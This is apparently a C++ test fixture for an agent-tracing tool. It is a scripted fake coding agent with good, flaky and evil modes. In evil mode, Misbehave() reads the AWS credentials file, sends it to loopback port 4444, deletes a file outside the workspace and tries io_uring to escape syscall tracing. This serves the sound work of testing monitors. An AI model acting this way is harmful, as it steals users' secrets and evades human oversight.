// sample-agent: a scripted stand-in for an AI coding agent, for the demo and the end-to-end tests.
// No model, no network: it works inside the current directory (a throw-away workspace made by the demo)
// and a fake $HOME, never the user's real files.
//
//   sample-agent --mode good   a well-behaved coding agent: reads the repository, calls tools through an
//                              MCP server, fixes a bug, runs the tests (exec of sh and cc), writes a result
//   sample-agent --mode flaky --seed N
//                              mostly the same, but takes different paths from run to run (seeded)
//   sample-agent --mode evil   does the good agent's work, and also reads a planted credentials file,
//                              connects to a loopback port outside any allow list, deletes a file outside
//                              its workspace and tries an io_uring escape
//
// The MCP server is $AGENTTRACE_SAMPLE_MCP (sample-mcp-server). When the agent runs under `agenttrace
// record` ($AGENTTRACE_SOCKET set) and $AGENTTRACE_BIN names agenttrace, the server is started as
// `agenttrace record --mcp -- sample-mcp-server .`, so its tool calls join the agent's session.
#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <nlohmann/json.hpp>
#include <random>
#include <string>
#include <vector>

namespace {

using Json = nlohmann::json;

std::string ReadFile(const std::string& path) {
  std::string out;
  int fd = ::open(path.c_str(), O_RDONLY | O_CLOEXEC);
  if (fd < 0) return out;
  char buf[4096];
  ssize_t n;
  while ((n = ::read(fd, buf, sizeof buf)) > 0) out.append(buf, static_cast<size_t>(n));
  ::close(fd);
  return out;
}

bool WriteFile(const std::string& path, const std::string& data) {
  int fd = ::open(path.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
  if (fd < 0) return false;
  bool ok = ::write(fd, data.data(), data.size()) == static_cast<ssize_t>(data.size());
  ::close(fd);
  return ok;
}

std::vector<std::string> ListDir(const std::string& dir) {
  std::vector<std::string> names;
  if (DIR* d = ::opendir(dir.c_str())) {
    while (dirent* e = ::readdir(d)) {
      if (e->d_name[0] != '.') names.emplace_back(e->d_name);
    }
    ::closedir(d);
  }
  return names;
}

// Runs argv, waits, returns the exit status (or -1).
int Run(const std::vector<std::string>& argv, bool quiet = true) {
  pid_t pid = ::fork();
  if (pid == 0) {
    if (quiet) {
      int null = ::open("/dev/null", O_WRONLY);
      ::dup2(null, 1);
      ::dup2(null, 2);
    }
    std::vector<char*> args;
    for (const auto& a : argv) args.push_back(const_cast<char*>(a.c_str()));
    args.push_back(nullptr);
    ::execvp(args[0], args.data());
    ::_exit(127);
  }
  int status = 0;
  if (pid < 0 || ::waitpid(pid, &status, 0) < 0) return -1;
  return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

// A minimal MCP client over a child's stdin/stdout.
class McpClient {
 public:
  bool Start() {
    const char* server = std::getenv("AGENTTRACE_SAMPLE_MCP");
    if (server == nullptr) return false;
    std::vector<std::string> argv;
    const char* bin = std::getenv("AGENTTRACE_BIN");
    if (std::getenv("AGENTTRACE_SOCKET") != nullptr && bin != nullptr) {
      argv = {bin, "record", "--mcp", "--agent", "sample-fs", "--", server, "."};
    } else {
      argv = {server, "."};
    }
    int to_child[2], from_child[2];
    if (::pipe2(to_child, O_CLOEXEC) != 0 || ::pipe2(from_child, O_CLOEXEC) != 0) return false;
    pid_ = ::fork();
    if (pid_ == 0) {
      ::dup2(to_child[0], 0);
      ::dup2(from_child[1], 1);
      std::vector<char*> args;
      for (const auto& a : argv) args.push_back(const_cast<char*>(a.c_str()));
      args.push_back(nullptr);
      ::execv(args[0], args.data());
      ::_exit(127);
    }
    ::close(to_child[0]);
    ::close(from_child[1]);
    out_ = to_child[1];
    in_ = ::fdopen(from_child[0], "r");
    Json init = Request("initialize", {{"protocolVersion", "2025-06-18"},
                                       {"capabilities", Json::object()},
                                       {"clientInfo", {{"name", "sample-agent"}, {"version", "1.0.0"}}}});
    if (!init.contains("result")) return false;
    Notify("notifications/initialized");
    return true;
  }

  Json Request(const std::string& method, const Json& params) {
    Json msg = {{"jsonrpc", "2.0"}, {"id", next_id_++}, {"method", method}, {"params", params}};
    SendLine(msg.dump());
    char* line = nullptr;
    size_t cap = 0;
    Json reply;
    if (::getline(&line, &cap, in_) > 0) reply = Json::parse(line, nullptr, false);
    std::free(line);
    return reply;
  }

  void Notify(const std::string& method) { SendLine(Json{{"jsonrpc", "2.0"}, {"method", method}}.dump()); }

  std::string CallTool(const std::string& name, const Json& args) {
    Json r = Request("tools/call", {{"name", name}, {"arguments", args}});
    if (!r.contains("result")) return "";
    const Json& c = r["result"]["content"];
    return c.is_array() && !c.empty() ? c[0].value("text", "") : "";
  }

  void Stop() {
    if (pid_ <= 0) return;
    ::close(out_);
    std::fclose(in_);
    ::waitpid(pid_, nullptr, 0);
    pid_ = -1;
  }

 private:
  void SendLine(std::string s) {
    s.push_back('\n');
    if (::write(out_, s.data(), s.size()) < 0) std::perror("sample-agent: write to MCP server");
  }

  pid_t pid_ = -1;
  int out_ = -1;
  FILE* in_ = nullptr;
  int next_id_ = 0;
};

void Annotate(const std::string& text) {
  const char* bin = std::getenv("AGENTTRACE_BIN");
  if (bin != nullptr && std::getenv("AGENTTRACE_SOCKET") != nullptr) {
    Run({bin, "emit", "--kind", "annotation", "--text", text});
  }
}

constexpr char kFixedCalc[] =
    "int add(int a, int b) { return a + b; }\n"
    "int mul(int a, int b) { return a * b; }\n";

// The task every mode performs: fix the bug in src/calc.c and run the tests.
int DoTheTask(McpClient& mcp, bool have_mcp) {
  for (const auto& name : ListDir(".")) (void)name;
  ReadFile("README.md");
  ReadFile("tests/test_calc.c");
  if (have_mcp) {
    mcp.Request("tools/list", Json::object());
    mcp.CallTool("read_file", {{"path", "src/calc.c"}});
    mcp.CallTool("write_file", {{"path", "src/calc.c"}, {"content", kFixedCalc}});
  } else {
    ReadFile("src/calc.c");
    WriteFile("src/calc.c", kFixedCalc);
  }
  int rc = Run({"sh", "run_tests.sh"});
  WriteFile("RESULT.md", rc == 0 ? "tests pass\n" : "tests fail\n");
  return rc;
}

void Misbehave() {
  const char* home = std::getenv("HOME");
  std::string h = home ? home : "/nonexistent";
  // 1. Read a credentials file the task does not need.
  std::string creds = ReadFile(h + "/.aws/credentials");
  // 2. ... then talk to a host nobody allowed (loopback port; refused or not, the attempt is the evidence).
  int s = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(4444);
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (::connect(s, reinterpret_cast<sockaddr*>(&addr), sizeof addr) == 0) {
    (void)!::write(s, creds.data(), creds.size());
  }
  ::close(s);
  // 3. Delete a file outside the workspace.
  ::unlink((h + "/.cache/agent-notes.txt").c_str());
  // 4. Try to act outside syscall tracing.
  io_uring_params params{};
  long fd = ::syscall(SYS_io_uring_setup, 8, &params);
  if (fd >= 0) ::close(static_cast<int>(fd));
}

void Wander(std::mt19937& rng) {
  auto coin = [&rng] { return std::uniform_int_distribution<int>(0, 1)(rng) == 1; };
  static const char* kWords[] = {"alpha", "bravo", "charlie", "delta", "echo", "foxtrot", "golf", "hotel"};
  auto word = [&rng] { return std::string(kWords[rng() % 8]); };
  static const char* kDocs[] = {"docs/design.md", "docs/api.md", "docs/history.md", "CONTRIBUTING.md"};
  for (const char* d : kDocs) {
    if (coin()) ReadFile(d);
  }
  // A different handful of scratch files every run: what makes this agent's behaviour unstable.
  for (unsigned k = rng() % 6; k > 0; --k) WriteFile("scratch-" + word() + ".txt", "thinking...\n");
  for (unsigned k = rng() % 6; k > 0; --k) WriteFile("notes/" + word() + ".md", "plan\n");
  if (coin()) Run({"ls", "-la", "src"});
  if (coin()) Run({"grep", "-r", "add", "src"});
  if (coin()) Run({"wc", "-l", "README.md"});
  if (coin()) Run({"cat", "docs/" + word() + ".md"});
  if (coin()) ::mkdir(("build-" + word()).c_str(), 0755);
  if (coin()) ::rename("RESULT.md", ("RESULT-" + word() + ".md").c_str());
}

}  // namespace

int main(int argc, char** argv) {
  std::string mode = "good";
  unsigned seed = 1;
  for (int i = 1; i < argc; ++i) {
    std::string a = argv[i];
    if (a == "--mode" && i + 1 < argc) {
      mode = argv[++i];
    } else if (a == "--seed" && i + 1 < argc) {
      seed = static_cast<unsigned>(std::strtoul(argv[++i], nullptr, 10));
    } else {
      std::fprintf(stderr, "usage: sample-agent [--mode good|flaky|evil] [--seed N]\n");
      return 2;
    }
  }
  if (mode != "good" && mode != "flaky" && mode != "evil") {
    std::fprintf(stderr, "sample-agent: unknown mode %s\n", mode.c_str());
    return 2;
  }
  std::mt19937 rng(seed);
  McpClient mcp;
  bool have_mcp = mcp.Start();
  if (mode == "flaky") Wander(rng);
  if (mode == "evil") Misbehave();
  int rc = DoTheTask(mcp, have_mcp);
  if (mode == "flaky") Wander(rng);
  mcp.Stop();
  Annotate("sample-agent " + mode + ": task finished, tests " + (rc == 0 ? "pass" : "fail"));
  return rc == 0 ? 0 : 1;
}
